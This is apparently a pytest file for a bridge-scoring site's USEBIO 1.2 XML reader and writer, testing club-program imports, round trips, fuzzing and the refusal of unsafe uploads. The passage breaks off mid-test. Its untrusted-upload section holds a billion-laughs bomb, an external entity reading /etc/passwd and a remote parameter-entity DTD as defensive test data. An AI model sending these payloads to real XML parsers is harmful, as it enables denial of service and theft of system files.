"""USEBIO 1.2: writing an event's results, reading a school's upload (untrusted)."""

from __future__ import annotations

import dataclasses
import datetime
import pathlib
import re
import xml.etree.ElementTree as ET
from collections.abc import Hashable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scoring.cards import Deal, Seat
from scoring.event import FieldResult, compare_boards, field_results, national_upload, score_event
from scoring.upload import (
    ResultKind,
    Upload,
    UploadBoard,
    UploadPair,
    UploadProblemCode,
    UploadResult,
)
from scoring.usebio import program_version, read_usebio, winner_type, write_usebio
from tests.scoring.deals import EW_DECLARE, NS_TIE, WORKED_EXAMPLE, deals

D1 = Deal.from_pbn(WORKED_EXAMPLE)
D2 = Deal.from_pbn(EW_DECLARE)
D3 = Deal.from_pbn(NS_TIE)
DATA = pathlib.Path(__file__).parent / "data"


def as_written(upload: Upload) -> Upload:
    """What a reader gets back from the writer: percentages and matchpoints to 2
    decimals, and the WINNER_TYPE the writer decided."""

    def two(value: float | None) -> float | None:
        return None if value is None else round(value, 2)

    return dataclasses.replace(
        upload,
        pairs=tuple(dataclasses.replace(p, percentage=two(p.percentage)) for p in upload.pairs),
        results=tuple(
            dataclasses.replace(r, ns_mp=two(r.ns_mp), ew_mp=two(r.ew_mp)) for r in upload.results
        ),
        winner_type=winner_type(upload),
    )


#: In the style of a club scoring program's export: Latin-1, the DTD named, boards in a
#: SESSION and SECTION, names in capitals, a void written as an empty element, suits in
#: any order, hands in a HANDSET after the EVENT.
CLUB_FILE = """<?xml version="1.0" encoding="iso-8859-1"?>
<!DOCTYPE USEBIO SYSTEM "http://www.ebu.co.uk/usebio/usebio_v1_2.dtd">
<USEBIO Version="1.2">
<CLUB><CLUB_NAME>Tromsø skole</CLUB_NAME><CLUB_ID_NUMBER>17</CLUB_ID_NUMBER></CLUB>
<EVENT EVENT_TYPE="PAIRS">
  <EVENT_DESCRIPTION>Vårcupen, runde 1</EVENT_DESCRIPTION>
  <PROGRAM_NAME>Some scorer</PROGRAM_NAME>
  <DATE>12/03/2026</DATE>
  <BOARD_SCORING_METHOD>MATCH_POINTS</BOARD_SCORING_METHOD>
  <SESSION SESSION_ID="1"><SECTION SECTION_ID="A">
  <PARTICIPANTS>
    <PAIR><PAIR_NUMBER>1</PAIR_NUMBER><DIRECTION>NS</DIRECTION>
      <PERCENTAGE>75.00</PERCENTAGE><PLACE>1</PLACE>
      <PLAYER><PLAYER_NAME>ÅSE LIE</PLAYER_NAME><NATIONAL_ID_NUMBER>1</NATIONAL_ID_NUMBER></PLAYER>
      <PLAYER><PLAYER_NAME>Ola</PLAYER_NAME></PLAYER></PAIR>
    <PAIR><PAIR_NUMBER>2</PAIR_NUMBER><DIRECTION>EW</DIRECTION>
      <PLAYER><PLAYER_NAME>Kari</PLAYER_NAME></PLAYER>
      <PLAYER><PLAYER_NAME>Per</PLAYER_NAME></PLAYER></PAIR>
  </PARTICIPANTS>
  <BOARD><BOARD_NUMBER>1</BOARD_NUMBER>
    <TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER>
      <CONTRACT>4S</CONTRACT><PLAYED_BY>S</PLAYED_BY><LEAD>HA</LEAD><TRICKS>10</TRICKS>
      <SCORE>420</SCORE><NS_MATCH_POINTS>2</NS_MATCH_POINTS><EW_MATCH_POINTS>0</EW_MATCH_POINTS>
    </TRAVELLER_LINE>
  </BOARD>
  <BOARD><BOARD_NUMBER>2</BOARD_NUMBER>
    <TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER>
      <CONTRACT>1NT</CONTRACT><PLAYED_BY>W</PLAYED_BY><TRICKS>6</TRICKS><SCORE>50</SCORE>
    </TRAVELLER_LINE>
  </BOARD>
  </SECTION></SESSION>
</EVENT>
<HANDSET>
  <BOARD><BOARD_NUMBER>1</BOARD_NUMBER>
    <HAND><DIRECTION>North</DIRECTION><CLUBS>K8642</CLUBS><DIAMONDS>A732</DIAMONDS>
      <HEARTS></HEARTS><SPADES>KQ65</SPADES></HAND>
    <HAND><DIRECTION>East</DIRECTION><SPADES>32</SPADES><HEARTS>QT6432</HEARTS>
      <DIAMONDS>864</DIAMONDS><CLUBS>AQ</CLUBS></HAND>
    <HAND><DIRECTION>South</DIRECTION><CLUBS>J73</CLUBS><DIAMONDS>KQ5</DIAMONDS>
      <HEARTS>K85</HEARTS><SPADES>AJ84</SPADES></HAND>
    <HAND><DIRECTION>West</DIRECTION><CLUBS>T95</CLUBS><DIAMONDS>JT9</DIAMONDS>
      <HEARTS>AJ97</HEARTS><SPADES>T97</SPADES></HAND>
  </BOARD>
</HANDSET>
</USEBIO>
""".encode("iso-8859-1")


def _both(ew_mp: float | None) -> float:
    """A line with N–S matchpoints has E–W's too."""
    assert ew_mp is not None
    return ew_mp


def test_a_club_programs_file_is_read() -> None:
    upload = read_usebio(CLUB_FILE)
    assert upload.problems == ()
    assert upload.title == "Vårcupen, runde 1"
    assert upload.date == datetime.date(2026, 3, 12)
    assert upload.pairs == (
        UploadPair("1", ("ÅSE LIE", "Ola"), "NS", 75.0, "1"),
        UploadPair("2", ("Kari", "Per"), "EW"),
    )
    assert upload.pairs[0].first_names == ("ÅSE", "Ola")
    assert upload.boards == (UploadBoard(1, D1), UploadBoard(2, None))
    assert upload.results == (
        UploadResult(1, "1", "2", ResultKind.PLAYED, "4S", Seat.SOUTH, 10, 420, ns_mp=2, ew_mp=0),
        UploadResult(2, "1", "2", ResultKind.PLAYED, "1NT", Seat.WEST, 6, 50),
    )
    # Board 1 is checked by its cards, board 2 (no hands) by its number.
    assert compare_boards({1: D1, 2: D2}, upload) == ()
    assert [p.code for p in compare_boards({1: D2, 2: D2}, upload)] == [
        UploadProblemCode.BOARD_DIFFERENT
    ]
    assert [p.code for p in compare_boards({1: D1, 2: D2}, upload, deals_required=True)] == [
        UploadProblemCode.BOARD_NO_DEAL
    ]


#: Made by hand with invented names, laid out element for element as a real USEBIO 1.2
#: file of another program: the Compscore3 file that abftech/cobalt keeps as
#: results/tests/test_files/mp_pairs_mitchell_adjusted_02.xml (a Mitchell ranked N–S and
#: E–W apart, WINNER_TYPE 2; adjusted scores A6040 and A5050 with no contract, declarer
#: or tricks; LEAD, TOTAL_SCORE, master points, national ids; hands East first).
COMPSCORE_FILE = (DATA / "compscore3_mitchell_adjusted.xml").read_bytes()


def test_a_real_programs_mitchell_with_adjusted_scores_is_read() -> None:
    upload = read_usebio(COMPSCORE_FILE)
    assert upload.problems == ()
    assert upload.winner_type == 2
    assert upload.title == "SV Tue 6.00pm Juniors (03-Mar-26)"
    assert upload.date == datetime.date(2026, 3, 3)
    assert upload.pairs[:2] == (
        UploadPair("1NS", ("TIRIL AASEN", "JONAS BREKKE"), "NS", 66.67, "1"),
        UploadPair("1EW", ("SOFIE DAHL", "MAGNUS EIDE"), "EW", 30.0, "2"),
    )
    assert [(p.number, p.percentage, p.place) for p in upload.pairs[2:]] == [
        ("2NS", 45.83, "2"),
        ("2EW", 25.0, "3"),
        ("3NS", 40.83, "3"),
        ("3EW", 91.67, "1"),
    ]
    assert upload.pairs[2].names == ("NORA FJELD", "BJØRN GRAN")
    assert upload.boards == (UploadBoard(1, D1), UploadBoard(2, D2), UploadBoard(3, D3))
    assert compare_boards({1: D1, 2: D2, 3: D3}, upload, deals_required=True) == ()
    assert len(upload.results) == 9
    assert upload.results[0] == UploadResult(
        1, "1NS", "1EW", ResultKind.PLAYED, "4S", Seat.SOUTH, 10, 420, ns_mp=2, ew_mp=0
    )
    assert upload.results[4] == UploadResult(  # a line without a LEAD
        2, "2NS", "2EW", ResultKind.PLAYED, "3NT", Seat.WEST, 8, 50, ns_mp=1.75, ew_mp=0.25
    )
    assert upload.results[5] == UploadResult(
        2, "3NS", "1EW", ResultKind.ADJUSTED, ns_percent=60, ew_percent=40, ns_mp=1.2, ew_mp=0.8
    )
    assert upload.results[7] == UploadResult(
        3, "2NS", "1EW", ResultKind.ADJUSTED, ns_percent=50, ew_percent=50, ns_mp=1, ew_mp=1
    )
    # The site scores the results again (one field, EBU matchpoints): the percentages
    # come out as the file's own.
    event = score_event(field_results(upload, "Sunnvik"))
    by_number = {pair.number: pair for pair in upload.pairs}
    assert {str(p.pair): round(p.percentage, 2) for p in event.pairs} == {
        number: pair.percentage for number, pair in by_number.items()
    }


def test_the_sites_older_files_are_still_read() -> None:
    """Before it wrote A6040 the site wrote adjusted scores A60/40, not played lines with
    an empty contract, percentages with every digit, no WINNER_TYPE."""
    old = (
        b"<?xml version='1.0' encoding='UTF-8'?><USEBIO Version='1.2'>"
        b"<EVENT EVENT_TYPE='PAIRS'><PROGRAM_NAME>Minibridge classroom</PROGRAM_NAME>"
        b"<PARTICIPANTS><PAIR><PAIR_NUMBER>1</PAIR_NUMBER>"
        b"<PERCENTAGE>71.36454573105114</PERCENTAGE></PAIR>"
        b"<PAIR><PAIR_NUMBER>2</PAIR_NUMBER></PAIR></PARTICIPANTS>"
        b"<BOARD><BOARD_NUMBER>1</BOARD_NUMBER><TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER>"
        b"<EW_PAIR_NUMBER>2</EW_PAIR_NUMBER><CONTRACT></CONTRACT><SCORE>A60/40</SCORE>"
        b"</TRAVELLER_LINE></BOARD><BOARD><BOARD_NUMBER>2</BOARD_NUMBER><TRAVELLER_LINE>"
        b"<NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER>"
        b"<CONTRACT></CONTRACT><SCORE>NP</SCORE></TRAVELLER_LINE></BOARD></EVENT></USEBIO>"
    )
    upload = read_usebio(old)
    assert upload.problems == ()
    assert upload.winner_type is None
    assert upload.pairs[0].percentage == 71.36454573105114
    assert upload.results == (
        UploadResult(1, "1", "2", ResultKind.ADJUSTED, ns_percent=60, ew_percent=40),
        UploadResult(2, "1", "2", ResultKind.NOT_PLAYED),
    )


@pytest.mark.parametrize(
    ("written", "read"),
    [("1", 1), ("2", 2), (" 2 ", 2), ("0", None), ("3", None), ("", None), ("two", None)],
)
def test_a_winner_type_the_site_does_not_rank_is_read_as_unknown(
    written: str, read: int | None
) -> None:
    data = COMPSCORE_FILE.replace(
        b"<WINNER_TYPE>2</WINNER_TYPE>", f"<WINNER_TYPE>{written}</WINNER_TYPE>".encode()
    )
    upload = read_usebio(data)
    assert upload.problems == ()
    assert upload.winner_type == read


@pytest.mark.parametrize("encoding", ["x-nonsense", "rot13", "base64", "mbcs", "ansi"])
def test_an_unknown_encoding_is_refused_with_a_clear_message(encoding: str) -> None:
    """expat asks Python for an encoding it does not know; a LookupError escaped. (Text
    already decoded, a str, is read whatever its declaration says.)"""
    data = f'<?xml version="1.0" encoding="{encoding}"?>\n<USEBIO Version="1.2"/>'
    upload = read_usebio(data.encode())
    assert [p.code for p in upload.problems] == [UploadProblemCode.UNKNOWN_ENCODING]
    assert upload.problems[0].params == {"encoding": encoding}
    assert f"written in the encoding {encoding!r}" in upload.problems[0].message
    assert [p.code for p in read_usebio(data).problems] == [UploadProblemCode.NOT_USEBIO]


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(blacklist_characters="\"'<>&"), max_size=50))
def test_nothing_escapes_from_any_declared_encoding(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><USEBIO Version="1.2"><EVENT/></USEBIO>'
    for form in (data, data.encode("utf-8", "surrogatepass")):
        upload = read_usebio(form)
        assert isinstance(upload, Upload)
        assert all(p.message for p in upload.problems)


EXAMPLE = Upload(
    boards=(UploadBoard(1, D1), UploadBoard(2, D2), UploadBoard(3)),
    pairs=(
        UploadPair("Ask-1NS", ("Emma", "Ola"), "NS", 61.25, "1"),
        UploadPair("Ask-1EW", ("Kari",), "EW", 100 / 3, "2="),
        UploadPair("Bø-7", ("Nils", "Åse"), None),
    ),
    results=(
        UploadResult(
            1,
            "Ask-1NS",
            "Ask-1EW",
            ResultKind.PLAYED,
            "4S",
            Seat.SOUTH,
            10,
            420,
            ns_mp=2.0,
            ew_mp=0.0,
        ),
        UploadResult(1, "Bø-7", "Ask-1EW", ResultKind.PLAYED, "1NT", Seat.SOUTH, 5, -100),
        UploadResult(
            2,
            "Ask-1NS",
            "Bø-7",
            ResultKind.ADJUSTED,
            ns_percent=60,
            ew_percent=40,
            ns_mp=2.4,
            ew_mp=1.6,
        ),
        UploadResult(3, "Ask-1NS", "Ask-1EW", ResultKind.NOT_PLAYED),
    ),
    title="Skole-NM <&> 2026",
    date=datetime.date(2026, 11, 30),
)


def test_the_writer_follows_the_usebio_layout() -> None:
    text = write_usebio(EXAMPLE, club="Norges Bridgeforbund").decode("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE USEBIO SYSTEM')
    for fragment in [
        '<USEBIO Version="1.2">',
        "<CLUB_NAME>Norges Bridgeforbund</CLUB_NAME>",
        '<EVENT EVENT_TYPE="MP_PAIRS">',
        "<EVENT_DESCRIPTION>Skole-NM &lt;&amp;&gt; 2026</EVENT_DESCRIPTION>",
        "<PROGRAM_NAME>Minibridge Classroom</PROGRAM_NAME>",
        f"<PROGRAM_VERSION>{program_version()}</PROGRAM_VERSION>",
        "<WINNER_TYPE>1</WINNER_TYPE>",  # one pair without a direction: one ranking
        "<DATE>30/11/2026</DATE>",
        "<BOARD_SCORING_METHOD>MATCH_POINTS</BOARD_SCORING_METHOD>",
        '<PARTICIPANTS EVENT_TYPE="MP_PAIRS">',
        "<PAIR_NUMBER>Ask-1NS</PAIR_NUMBER>",
        "<PERCENTAGE>61.25</PERCENTAGE>",
        "<PERCENTAGE>33.33</PERCENTAGE>",  # 100/3, to 2 decimals as real files give it
        "<DIRECTION></DIRECTION>",  # a Howell pair, as Compscore3 writes it
        "<PLAYER_NAME>Emma</PLAYER_NAME>",
        '<BOARD EVENT_TYPE="MP_PAIRS">',
        "<CONTRACT>4S</CONTRACT>",
        "<PLAYED_BY>S</PLAYED_BY>",
        "<TRICKS>10</TRICKS>",
        "<SCORE>420</SCORE>",
        "<NS_MATCH_POINTS>2.00</NS_MATCH_POINTS>",
        "<SCORE>A6040</SCORE>",
        "<SCORE>NP</SCORE>",
        "<HANDSET>",
        "<DIRECTION>North</DIRECTION>",
        "<SPADES>KQ65</SPADES>",
        "<HEARTS></HEARTS>",
    ]:
        assert fragment in text, fragment
    assert "A60/40" not in text
    assert not re.search(r"[0-9]\.[0-9]{3}", text)  # no figure with every digit
    assert text.index("</EVENT>") < text.index("<HANDSET>")
    root = ET.fromstring(text.split("\n", 2)[2])
    event = root.find("EVENT")
    assert event is not None
    assert [child.tag for child in event][:7] == [
        "EVENT_DESCRIPTION",
        "PROGRAM_NAME",
        "PROGRAM_VERSION",
        "WINNER_TYPE",
        "DATE",
        "SESSION_COUNT",
        "SECTION_COUNT",
    ]
    adjusted = event.findall("BOARD")[1].find("TRAVELLER_LINE")
    assert adjusted is not None
    # As Compscore3 writes an adjusted line: no contract, declarer or tricks.
    assert [child.tag for child in adjusted] == [
        "NS_PAIR_NUMBER",
        "EW_PAIR_NUMBER",
        "SCORE",
        "NS_MATCH_POINTS",
        "EW_MATCH_POINTS",
    ]


@pytest.mark.parametrize(
    ("pairs", "given", "expected"),
    [
        ((UploadPair("1NS", direction="NS"), UploadPair("1EW", direction="EW")), None, 2),
        ((UploadPair("1NS", direction="NS"), UploadPair("1EW", direction="EW")), 1, 1),
        ((UploadPair("1NS", direction="NS"), UploadPair("2", direction=None)), None, 1),
        ((UploadPair("1", direction=None), UploadPair("2", direction=None)), None, 1),
        ((UploadPair("1NS", direction="NS"), UploadPair("2NS", direction="NS")), None, 1),
        ((), None, 1),
    ],
    ids=["mitchell", "mitchell-one-ranking", "mixed", "howell", "one-side", "no-pairs"],
)
def test_the_winner_type_is_the_uploads_or_follows_the_pairs_directions(
    pairs: tuple[UploadPair, ...], given: int | None, expected: int
) -> None:
    upload = Upload(pairs=pairs, winner_type=given)
    assert winner_type(upload) == expected
    text = write_usebio(upload).decode()
    assert f"<WINNER_TYPE>{expected}</WINNER_TYPE>" in text
    assert read_usebio(text).winner_type == expected


def test_the_caller_may_give_the_version_and_the_winner_type() -> None:
    text = write_usebio(EXAMPLE, version="2.3.1", winner=2).decode()
    assert "<PROGRAM_VERSION>2.3.1</PROGRAM_VERSION>" in text
    assert "<WINNER_TYPE>2</WINNER_TYPE>" in text


def test_write_then_read_gives_the_same_results() -> None:
    back = read_usebio(write_usebio(EXAMPLE))
    assert back == as_written(EXAMPLE)
    assert back.pairs[1].percentage == 33.33


def test_characters_xml_cannot_hold_are_left_out() -> None:
    upload = Upload(pairs=(UploadPair("1", ("Ann\x00a\x1b",)),), title="T\x07")
    back = read_usebio(write_usebio(upload))
    assert back.pairs[0].names == ("Anna",)
    assert back.title == "T"


names = st.text(
    st.characters(blacklist_categories=("Cc", "Cs", "Zs", "Zl", "Zp")), min_size=1, max_size=12
)
pair_ids = st.text("0123456789ABCNSEW-", min_size=1, max_size=6)


@st.composite
def uploads(draw: st.DrawFn) -> Upload:
    pairs = draw(
        st.lists(
            st.builds(
                UploadPair,
                pair_ids,
                st.lists(names, max_size=2).map(tuple),
                st.sampled_from(["NS", "EW", None]),
                st.none() | st.floats(0, 100),
                st.none() | st.sampled_from(["1", "2=", "17"]),
            ),
            min_size=2,
            max_size=6,
            unique_by=lambda pair: pair.number,
        )
    )
    numbers = draw(st.lists(st.integers(1, 36), min_size=1, max_size=4, unique=True))
    boards = tuple(UploadBoard(number, draw(st.none() | deals)) for number in sorted(numbers))
    ids = [pair.number for pair in pairs]
    results = []
    for number in sorted(numbers):
        for _ in range(draw(st.integers(0, 3))):
            ns, ew = draw(st.sampled_from(ids)), draw(st.sampled_from(ids))
            mps = draw(st.none() | st.tuples(st.floats(0, 50), st.floats(0, 50)))
            kind = draw(st.sampled_from(list(ResultKind)))
            line = UploadResult(
                number,
                ns,
                ew,
                kind,
                ns_mp=mps[0] if mps else None,
                ew_mp=mps[1] if mps else None,
            )
            if kind is ResultKind.PLAYED:
                line = dataclasses.replace(
                    line,
                    contract=draw(st.sampled_from(["1NT", "3NT", "4S", "1C", "5D", "6H"])),
                    declarer=draw(st.sampled_from(list(Seat))),
                    tricks=draw(st.integers(0, 13)),
                    ns_score=draw(st.integers(-800, 1000)),
                )
            elif kind is ResultKind.ADJUSTED:
                line = dataclasses.replace(
                    line,
                    ns_percent=draw(st.sampled_from([40, 50, 60])),
                    ew_percent=draw(st.sampled_from([40, 50, 60])),
                )
            results.append(line)
    return Upload(
        boards=boards,
        pairs=tuple(pairs),
        results=tuple(results),
        title=draw(names),
        date=draw(st.none() | st.dates(datetime.date(2000, 1, 1), datetime.date(2099, 12, 31))),
    )


@settings(max_examples=80, deadline=None)
@given(uploads())
def test_any_results_survive_a_round_trip(upload: Upload) -> None:
    assert read_usebio(write_usebio(upload)) == as_written(upload)


# ---------------------------------------------------------------------------
# Untrusted uploads
# ---------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE USEBIO [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<USEBIO Version="1.2"><EVENT><EVENT_DESCRIPTION>&lol3;</EVENT_DESCRIPTION></EVENT></USEBIO>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE USEBIO [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<USEBIO Version="1.2"><EVENT><EVENT_DESCRIPTION>&secret;</EVENT_DESCRIPTION></EVENT></USEBIO>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE USEBIO [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<USEBIO Version="1.2"/>"""


def _line(contract: str = "4S", by: str = "S", tricks: str = "10", score: str = "420") -> bytes:
    return (
        "<USEBIO Version='1.2'><EVENT><PARTICIPANTS>"
        "<PAIR><PAIR_NUMBER>1</PAIR_NUMBER></PAIR><PAIR><PAIR_NUMBER>2</PAIR_NUMBER></PAIR>"
        "</PARTICIPANTS><BOARD><BOARD_NUMBER>4</BOARD_NUMBER><TRAVELLER_LINE>"
        "<NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER>"
        f"<CONTRACT>{contract}</CONTRACT><PLAYED_BY>{by}</PLAYED_BY><TRICKS>{tricks}</TRICKS>"
        f"<SCORE>{score}</SCORE></TRAVELLER_LINE></BOARD></EVENT></USEBIO>"
    ).encode()


def _hands(west_spades: str = "T97", north_direction: str = "North") -> bytes:
    return (
        "<USEBIO Version='1.2'><EVENT/><HANDSET><BOARD><BOARD_NUMBER>1</BOARD_NUMBER>"
        f"<HAND><DIRECTION>{north_direction}</DIRECTION><SPADES>KQ65</SPADES><HEARTS/>"
        "<DIAMONDS>A732</DIAMONDS><CLUBS>K8642</CLUBS></HAND>"
        "<HAND><DIRECTION>East</DIRECTION><SPADES>32</SPADES><HEARTS>QT6432</HEARTS>"
        "<DIAMONDS>864</DIAMONDS><CLUBS>AQ</CLUBS></HAND>"
        "<HAND><DIRECTION>South</DIRECTION><SPADES>AJ84</SPADES><HEARTS>K85</HEARTS>"
        "<DIAMONDS>KQ5</DIAMONDS><CLUBS>J73</CLUBS></HAND>"
        f"<HAND><DIRECTION>West</DIRECTION><SPADES>{west_spades}</SPADES><HEARTS>AJ97</HEARTS>"
        "<DIAMONDS>JT9</DIAMONDS><CLUBS>T95</CLUBS></HAND>"
        "</BOARD></HANDSET></USEBIO>"
    ).encode()


@pytest.mark.parametrize(
    ("data", "code", "message"),
    [
        (BILLION_LAUGHS, UploadProblemCode.UNSAFE, "its own document type definition"),
        (EXTERNAL_ENTITY, UploadProblemCode.UNSAFE, "its own document type definition"),
        (PARAMETER_ENTITY, UploadProblemCode.UNSAFE, "its own document type definition"),
        (b"", UploadProblemCode.NOT_READABLE, "not readable XML"),
        (b'[Board "1"]', UploadProblemCode.NOT_READABLE, "not readable XML"),
        (b"<USEBIO><EVENT></USEBIO>", UploadProblemCode.NOT_READABLE, "mismatched tag"),
        (
            b"<html><body/></html>",
            UploadProblemCode.NOT_USEBIO,
            "not USEBIO: it starts with <html>",
        ),
        (b"<USEBIO Version='1.2'/>", UploadProblemCode.NOT_USEBIO, "no EVENT"),
        (b"<USEBIO><EVENT/><EVENT/></USEBIO>", UploadProblemCode.NOT_USEBIO, "holds 2 events"),
        (b"<a>" * 40 + b"</a>" * 40, UploadProblemCode.TOO_MANY_ITEMS, "nested more than 32"),
        (
            _line(contract="2S"),
            UploadProblemCode.BAD_RESULT,
            "Board 4, pairs 1 and 2: the contract '2S' is not a Minibridge contract",
        ),
        (_line(by="X"), UploadProblemCode.BAD_RESULT, "the declarer 'X' is not N, E, S or W"),
        (
            _line(tricks="14"),
            UploadProblemCode.BAD_RESULT,
            "the tricks '14' are not a number from 0 to 13",
        ),
        (
            _line(score="lots"),
            UploadProblemCode.BAD_RESULT,
            "the score 'lots' is not a number of points",
        ),
        (
            _line(score="A70/30"),
            UploadProblemCode.BAD_RESULT,
            "the adjusted score 'A70/30' is not 60, 50 or 40 %",
        ),
        (
            _line(score="A7030"),
            UploadProblemCode.BAD_RESULT,
            "the adjusted score 'A7030' is not 60, 50 or 40 %",
        ),
        (
            _line().replace(b"<EW_PAIR_NUMBER>2<", b"<EW_PAIR_NUMBER>9<"),
            UploadProblemCode.UNKNOWN_PAIR,
            "pair 9 is not among the file's pairs",
        ),
        (
            _line().replace(b"<BOARD_NUMBER>4<", b"<BOARD_NUMBER>-4<"),
            UploadProblemCode.BOARD_NUMBER,
            "'-4' is not a board number (1 to 999)",
        ),
        (
            _line().replace(b"<PAIR_NUMBER>2<", b"<PAIR_NUMBER>1<"),
            UploadProblemCode.PAIR_TWICE,
            "Pair 1 is in the file twice",
        ),
        (
            _hands(west_spades="T9"),
            UploadProblemCode.BAD_DEAL,
            "Board 1: the hands cannot be used: West holds 12 cards",
        ),
        (
            _hands(west_spades="T9A"),
            UploadProblemCode.BAD_DEAL,
            "Board 1: the hands cannot be used: The ♠A is in both",
        ),
        (
            _hands(north_direction="Up"),
            UploadProblemCode.BAD_DEAL,
            "a hand's direction 'Up' is not North",
        ),
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "parameter-entity",
        "empty",
        "pbn",
        "broken",
        "html",
        "no-event",
        "two-events",
        "deep",
        "contract",
        "declarer",
        "tricks",
        "score",
        "adjusted",
        "adjusted-as-real-files",
        "unknown-pair",
        "board-number",
        "pair-twice",
        "short-hand",
        "card-twice",
        "direction",
    ],
)
def test_a_bad_upload_is_refused_with_a_clear_message(
    data: bytes, code: UploadProblemCode, message: str
) -> None:
    upload = read_usebio(data)
    assert code in [p.code for p in upload.problems]
    assert any(message in p.message for p in upload.problems), upload.problems
    assert not upload.ok


def test_the_size_is_limited_before_anything_is_parsed() -> None:
    upload = read_usebio(b"<USEBIO>" + b" " * 2000 + b"</USEBIO>", max_bytes=1000)
    assert [p.code for p in upload.problems] == [UploadProblemCode.TOO_LARGE]
    assert upload.problems[0].params == {"size": 2017, "limit": 1000}


def test_the_number_of_elements_is_limited() -> None:
    data = b"<USEBIO><EVENT>" + b"<PAIR/>" * 50 + b"</EVENT></USEBIO>"
    assert [p.code for p in read_usebio(data, max_elements=20).problems] == [
        UploadProblemCode.TOO_MANY_ITEMS
    ]


def test_an_external_dtd_is_named_but_never_fetched() -> None:
    """Real files name the EBU's DTD; the reader does not load it (an entity it would
    define is skipped, not expanded)."""
    data = CLUB_FILE.replace(b"<EVENT_DESCRIPTION>", b"<EVENT_DESCRIPTION>&ebu;")
    upload = read_usebio(data)
    assert upload.problems == ()
    assert upload.title == "Vårcupen, runde 1"


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300))
def test_nothing_escapes_from_junk(data: bytes | str) -> None:
    upload = read_usebio(data)
    assert isinstance(upload, Upload)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(CLUB_FILE) - 1), st.integers(0, 60), st.binary(max_size=12))
def test_nothing_escapes_from_a_damaged_file(start: int, length: int, junk: bytes) -> None:
    damaged = CLUB_FILE[:start] + junk + CLUB_FILE[start + length :]
    upload = read_usebio(damaged)
    assert isinstance(upload, Upload)
    assert all(p.message for p in upload.problems)


# ---------------------------------------------------------------------------
# The national results, exported for a federation
# ---------------------------------------------------------------------------


def test_the_national_results_are_exported_and_read_back() -> None:
    """Two schools' uploads, one national field, written as USEBIO and read back: the
    national matchpoints, percentages and places and the deals all survive."""
    school_a = Upload(
        results=(
            UploadResult(1, "1NS", "1EW", ResultKind.PLAYED, "4S", Seat.SOUTH, 10, 420),
            UploadResult(2, "1NS", "1EW", ResultKind.ADJUSTED, ns_percent=60, ew_percent=40),
        )
    )
    school_b = Upload(
        results=(
            UploadResult(1, "1NS", "1EW", ResultKind.PLAYED, "4S", Seat.SOUTH, 9, -50),
            UploadResult(2, "1NS", "1EW", ResultKind.PLAYED, "1NT", Seat.WEST, 7, -90),
            UploadResult(1, "2NS", "2EW", ResultKind.NOT_PLAYED),
        )
    )
    merged: dict[int, list[FieldResult]] = {}
    for school, upload in (("Ask", school_a), ("Bø", school_b)):
        for number, lines in field_results(upload, school).items():
            merged.setdefault(number, []).extend(lines)
    event = score_event(merged)
    names: dict[tuple[Hashable, Hashable], UploadPair] = {
        ("Ask", "1NS"): UploadPair("A-1NS", ("Emma", "Ola"), "NS"),
        ("Ask", "1EW"): UploadPair("A-1EW", ("Kari", "Per"), "EW"),
        ("Bø", "1NS"): UploadPair("B-1NS", ("Nils",), "NS"),
    }
    national = national_upload(
        event, names, deals={1: D1, 2: D2}, title="Skole-NM", date=datetime.date(2026, 12, 1)
    )
    text = write_usebio(national, club="Norges Bridgeforbund")
    assert b"<WINNER_TYPE>1</WINNER_TYPE>" in text  # one national ranking
    back = read_usebio(text)
    assert national.winner_type == back.winner_type == 1
    assert back == as_written(national)
    assert back.problems == ()
    assert compare_boards({1: D1, 2: D2}, back, deals_required=True) == ()
    by_number = {pair.number: pair for pair in back.pairs}
    for standing in event.pairs:
        pair_number = names.get((standing.school, standing.pair), UploadPair("")).number or (
            f"{standing.school}-{standing.pair}"
        )
        assert by_number[pair_number].percentage == round(standing.percentage, 2)
        assert by_number[pair_number].place == standing.place
    assert by_number["Bø-1EW"].names == ()  # not named by the caller
    assert by_number["Bø-2NS"].percentage is None  # only a "not played"
    field_lines = [line for board in event.boards for line in board.lines]
    assert [(r.ns_mp, r.ew_mp) for r in back.results] == [
        (round(line.ns_mp, 2), round(_both(line.ew_mp), 2))
        if line.ns_mp is not None
        else (None, None)
        for line in field_lines
    ]
    # Board 1: 420 and −50 of a field of three (one table did not play it): the top is
    # 4 and 420's 2 of 2 is factored up (Neuberg) to (2 + 1) × 3 / 2 − 1 = 3.5.
    assert back.results[0] == UploadResult(
        1, "A-1NS", "A-1EW", ResultKind.PLAYED, "4S", Seat.SOUTH, 10, 420, ns_mp=3.5, ew_mp=0.5
    )


field_texts = st.text(max_size=8) | st.sampled_from(
    ["²", "٣", "-0", "+7", "1e3", "NaN", "A60/40", "NP"]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(field_texts, min_size=12, max_size=12))
def test_nothing_escapes_from_odd_values_in_the_right_places(values: list[str]) -> None:
    """Every field of a well-formed file filled with odd text: problems, no exception."""
    from xml.sax.saxutils import escape

    v = [escape(value) for value in values]
    data = (
